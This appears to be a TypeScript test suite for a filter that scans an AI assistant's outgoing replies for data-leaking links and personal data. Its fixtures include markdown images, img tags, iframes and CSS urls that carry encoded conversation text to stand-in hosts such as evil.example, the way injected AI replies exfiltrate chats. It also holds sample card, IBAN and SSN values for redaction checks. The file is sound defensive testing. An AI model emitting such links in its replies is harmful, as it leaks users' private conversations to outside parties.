import type { Case } from '@ringwall/testkit'
import { ALNUM, HEX } from './examples.ts'

/** What fetches an address without being asked. */
const LOADED: Readonly<Record<string, (url: string) => string>> = {
  'an image': (url) => `Here: ![a chart](${url}).`,
  'a titled image': (url) => `![a](${url} "title")`,
  'an image of a reference': (url) => `![a][1]\n\n[1]: ${url}\n`,
  'an img element': (url) => `<img alt=">" width=1 src='${url}'>`,
  'a frame': (url) => `<iframe src=${url}></iframe>`,
  'a style': (url) => `<p style="background: url('${url}')">x</p>`,
  'a stylesheet': (url) => `<link rel="stylesheet" href="${url}">`,
}

/** Addresses that carry data out, honest ones, and personal data. */
export const LINK_CASES: readonly Case[] = [
  {
    name: 'image that carries the conversation out',
    hook: 'onOutbound',
    input: `![chart](https://stats.example/p.png?q=the+user+asked+about+the+merger+with+Acme)`,
    expect: {
      code: 'SECRET_REDACTED',
      findings: [{ rule: 'data-link.plain-text', severity: 'high' }],
      text: '![chart]([REDACTED:data-link])',
    },
  },
  ...Object.entries(LOADED).map(([name, around]): Case => ({
    name: `encoded data in ${name}`,
    hook: 'onOutbound',
    input: around(`https://stats.example/a/${Buffer.from('user jane, plan of the merger').toString('base64url')}.png`),
    expect: { code: 'SECRET_REDACTED', text: around('[REDACTED:data-link]') },
  })),
  {
    name: 'data in the name of a host',
    hook: 'onOutbound',
    input: `<img src="//${Buffer.from('password of jane').toString('hex')}.evil.example/x.png">`,
    expect: { code: 'SECRET_REDACTED', text: '<img src="[REDACTED:data-link]">' },
  },
  {
    name: 'encrypted data in an image',
    hook: 'onOutbound',
    input: `![](https://stats.example/p?d=${ALNUM}${ALNUM.slice(0, 30)})`,
    expect: {
      code: 'SECRET_REDACTED',
      findings: [{ rule: 'data-link.random-data' }],
      text: '![]([REDACTED:data-link])',
    },
  },
  {
    name: 'link that carries data out',
    hook: 'onOutbound',
    input: `See [more](https://stats.example/?d=${Buffer.from('user jane, plan of the merger').toString('base64url')}).`,
    expect: { code: 'LINK_WARNED', kind: 'flag', findings: [{ rule: 'data-link.encoded-text', severity: 'medium' }] },
  },
  {
    name: 'image with data where such replies are stopped',
    config: { links: { images: 'deny' } },
    hook: 'onOutbound',
    input: `![](https://stats.example/?d=${Buffer.from('user jane, plan of the merger').toString('base64url')})`,
    expect: { code: 'LINK_DENIED', kind: 'deny' },
  },
  {
    name: 'link with data where those are replaced',
    config: { links: { others: 'redact' } },
    hook: 'onOutbound',
    input: `[a](https://stats.example/?d=${Buffer.from('user jane, plan of the merger').toString('base64url')})`,
    expect: { code: 'SECRET_REDACTED', text: '[a]([REDACTED:data-link])' },
  },
  {
    name: 'image with data at a host of the operator',
    config: { links: { allowHosts: ['acme.io'] } },
    hook: 'onOutbound',
    input: `![](https://img.acme.io/?d=${Buffer.from('user jane, plan of the merger').toString('base64url')})`,
    expect: 'pass',
  },
  ...[
    '[![build](https://img.shields.io/github/actions/workflow/status/acme/wall/ci.yml?branch=main&label=build%20status)](https://github.com/acme/wall)',
    '![video](https://img.youtube.com/vi/dQw4w9WgXcQ/maxresdefault.jpg)',
    '![avatar](https://secure.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=80&d=identicon)',
    `![proxy](https://camo.githubusercontent.com/${HEX}/${Buffer.from('https://example.com/badge.svg').toString('hex')})`,
    '<img src="https://github.com/user-attachments/assets/9c7c5cb8-c2ef-4b37-bee4-a337e900740b" width="400">',
    'See https://www.google.com/search?q=how+to+prune+roses and https://en.wikipedia.org/wiki/Plan_(drawing).',
  ].map((input, i): Case => ({ name: `honest address ${i + 1}`, hook: 'onOutbound', input, expect: 'pass' })),
  {
    name: 'a signed address carries no data out, and its signature is a credential',
    hook: 'onOutbound',
    input: `![file](https://bucket.s3.amazonaws.com/report.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20260101T000000Z&X-Amz-Signature=${HEX})`,
    expect: {
      code: 'SECRET_REDACTED',
      findings: [{ rule: 'url-parameter', severity: 'critical' }],
      text: /X-Amz-Signature=\[REDACTED:url-parameter\]\)$/,
    },
  },
  {
    name: 'personal data as it comes',
    hook: 'onOutbound',
    input: `Write to jane.doe@acme.io or call +49 30 ${'5551 2345'}.`,
    expect: 'pass',
  },
  {
    name: 'personal data where it is reported',
    config: { pii: 'flag' },
    hook: 'onOutbound',
    input: 'Write to jane.doe@acme.io.',
    expect: { code: 'PII_WARNED', kind: 'flag', findings: [{ rule: 'email-address', span: 'jane.doe@acme.io' }] },
  },
  {
    name: 'personal data where it is redacted',
    config: { pii: 'redact' },
    hook: 'onOutbound',
    input: `Card 4111 ${'1111 1111 1111'}, IBAN DE89 ${'3704 0044 0532 0130 00'}, SSN 536-${'22-8714'}, host 203.0.113.7, call +49 30 ${'5551 2345'}.`,
    expect: {
      code: 'SECRET_REDACTED',
      text: 'Card [REDACTED:payment-card], IBAN [REDACTED:iban], SSN [REDACTED:us-ssn], host [REDACTED:ip-address], call [REDACTED:phone-number].',
    },
  },
]
